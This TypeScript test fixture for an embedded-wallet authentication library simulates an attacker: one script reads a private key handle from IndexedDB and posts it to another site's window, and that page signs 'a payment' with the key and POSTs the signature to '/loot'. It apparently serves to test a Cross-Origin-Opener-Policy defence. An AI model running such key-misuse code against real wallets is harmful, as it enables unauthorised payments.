/** A script of the page sends the handle of the session key to a window of another site, which then signs with it. @module */
import { serve } from 'embedded-wallet-auth/node'

/** The header that keeps the page from holding a window of another site. */
export const sameOriginOpener = { 'Cross-Origin-Opener-Policy': 'same-origin' } as const

/** A site of the attacker. */
export interface OtherSite {
  readonly url: string
  /** The signatures that the site made with keys that it was sent, in hex. */
  readonly signatures: readonly string[]
  close(): Promise<void>
}

/** What the site's page does: signs with each key that arrives, and reports the signature to its own server. */
const taking = `
  addEventListener('message', async ({ data }) => {
    if (!(data instanceof CryptoKey) || globalThis.taken) return
    globalThis.taken = true
    const algorithm = { name: 'ECDSA', hash: 'SHA-256' }
    const signature = await crypto.subtle.sign(algorithm, data, new TextEncoder().encode('a payment'))
    const hex = Array.from(new Uint8Array(signature), (byte) => byte.toString(16).padStart(2, '0')).join('')
    await fetch('/loot', { method: 'POST', body: hex })
  })`

/** Serves the site of the attacker. Its host is another site than `localhost`. */
export async function serveOtherSite(): Promise<OtherSite> {
  const signatures: string[] = []
  const { url, close } = await serve(
    async (request) => {
      if (request.method === 'POST') signatures.push(await request.text())
      const html = `<!doctype html><title>Other site</title><script>${taking}</script>`
      return new Response(html, { headers: { 'Content-Type': 'text/html' } })
    },
    { port: 0 },
  )
  return { url, signatures, close }
}

/**
 * The script of the attacker in the wallet's page, as a function's body: reads the key from IndexedDB, and at the next
 * click opens the other site, to which it goes on sending the key. Its arguments are the account's id and the site's address.
 */
export const sendsKey = `
  const [accountId, address] = arguments
  const opening = indexedDB.open('embedded-wallet-auth')
  opening.onsuccess = () => {
    const accounts = opening.result.transaction('accounts').objectStore('accounts')
    const reading = accounts.getAll(IDBKeyRange.bound([accountId], [accountId, []]))
    reading.onsuccess = () => {
      const { privateKey } = reading.result.find((entry) => entry.privateKey)
      addEventListener('click', () => {
        const other = open(address)
        window.attempts = 0
        setInterval(() => {
          window.attempts += 1
          other?.postMessage(privateKey, '*')
        }, 50)
      }, { once: true })
      document.title = 'armed'
    }
  }`
